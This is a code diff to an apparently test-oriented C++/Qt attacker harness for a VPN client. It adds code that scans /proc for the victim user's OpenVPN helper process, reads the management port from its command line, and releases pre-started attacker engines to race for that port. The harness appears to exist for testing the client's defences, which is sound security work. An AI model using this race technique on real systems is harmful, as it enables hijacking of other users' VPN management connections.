@@ -5,6 +5,9 @@
 #include "peerowner/TcpSocketTable.h"
 
 #include <QCoreApplication>
+#include <QDir>
+#include <QElapsedTimer>
+#include <QFile>
 #include <QTcpServer>
 #include <QTcpSocket>
 
@@ -21,6 +24,7 @@ const char *const AttackerRun::CA = "ORVAL_ATTACK_CA";
 namespace {
 // Engines per port of the client's: their attempts come closer together.
 constexpr int ENGINES_PER_PORT = 3;
+constexpr int HELD_ENGINES = 6;
 constexpr int SCAN_MS = 10;
 } // namespace
 
@@ -30,7 +34,6 @@ AttackerRun::AttackerRun()
     , m_input(STDIN_FILENO, QSocketNotifier::Read)
 {
     m_scan.setInterval(SCAN_MS);
-    connect(&m_scan, &QTimer::timeout, this, &AttackerRun::scan);
     connect(&m_input, &QSocketNotifier::activated, this, [this] {
         char buffer[256];
         if (::read(STDIN_FILENO, buffer, sizeof buffer) <= 0)
@@ -49,7 +52,10 @@ int AttackerRun::main(int argc, char **argv)
 
 void AttackerRun::say(const QString &line)
 {
-    std::printf("%s\n", qPrintable(line));
+    static QElapsedTimer clock;
+    if (!clock.isValid())
+        clock.start();
+    std::printf("%s @%lld\n", qPrintable(line), clock.elapsed());
     std::fflush(stdout);
 }
 
@@ -60,6 +66,20 @@ bool AttackerRun::start()
         say(QStringLiteral("unknown attack ") + m_attack);
         return false;
     }
+    if (m_attack != QLatin1String("v6-only") && aim == AttackerEngine::Aim::ChangedRemote) {
+        // Engines held ready, released the moment the client's helper run shows.
+        for (int i = 0; i < HELD_ENGINES; ++i) {
+            auto *engine = new AttackerEngine(aim, 0, qEnvironmentVariable(DIRECTORY), qEnvironmentVariable(CA), this);
+            m_engines << engine;
+            if (!engine->start())
+                return false;
+        }
+        connect(&m_scan, &QTimer::timeout, this, &AttackerRun::watchHelperRuns);
+        m_scan.start();
+        say(QStringLiteral("ready"));
+        return true;
+    }
+    connect(&m_scan, &QTimer::timeout, this, &AttackerRun::scan);
     scan();
     m_scan.start();
     say(QStringLiteral("ready"));
@@ -75,6 +95,31 @@ void AttackerRun::scan()
             && !m_seen.contains(port)) {
             m_seen.insert(port);
             goFor(port);
+        }
+    }
+}
+
+// The client's helper runs of the OpenVPN command: "Stelvane OpenVPN
+// PROGRAM CONFIG-DIR CONFIG-FILE MANAGEMENT-PORT ...", its real user the client's.
+void AttackerRun::watchHelperRuns()
+{
+    const QStringList entries = QDir(QStringLiteral("/proc")).entryList(QDir::Dirs | QDir::NoDotAndDotDot);
+    for (const QString &pid : entries) {
+        QFile command(QStringLiteral("/proc/%1/cmdline").arg(pid));
+        if (m_helperRuns.contains(pid) || !pid.at(0).isDigit() || !command.open(QIODevice::ReadOnly))
+            continue;
+        const QList<QByteArray> arguments = command.readAll().split('\0');
+        QFile status(QStringLiteral("/proc/%1/status").arg(pid));
+        if (arguments.size() < 6 || !arguments.at(0).endsWith("/Stelvane") || arguments.at(1) != "OpenVPN"
+            || !status.open(QIODevice::ReadOnly)
+            || !status.readAll().contains("\nUid:\t" + QByteArray::number(m_victim) + '\t'))
+            continue;
+        m_helperRuns.insert(pid);
+        const quint16 port = quint16(arguments.at(5).toUInt());
+        say(QStringLiteral("aimed at %1").arg(port));
+        for (AttackerEngine *engine : qAsConst(m_engines)) {
+            if (engine->isHolding())
+                engine->release(port);
         }
     }
 }
